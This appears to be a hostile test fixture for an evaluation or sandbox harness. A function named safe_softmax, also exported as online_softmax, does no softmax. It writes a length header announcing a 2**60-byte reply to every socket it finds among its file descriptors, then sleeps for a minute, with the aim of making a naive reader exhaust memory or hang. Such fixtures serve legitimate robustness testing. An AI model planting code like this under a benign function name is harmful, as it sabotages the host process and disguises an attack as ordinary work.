"""Hostile: finds the reply socket among its file descriptors and announces a reply of
2**60 bytes (a naive reader allocates it, or waits for it forever)."""

import os
import stat
import struct
import time


def safe_softmax(x, block_size=128):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("<Q", 1 << 60))
        except OSError:
            pass
    time.sleep(60)
    return x


online_softmax = safe_softmax
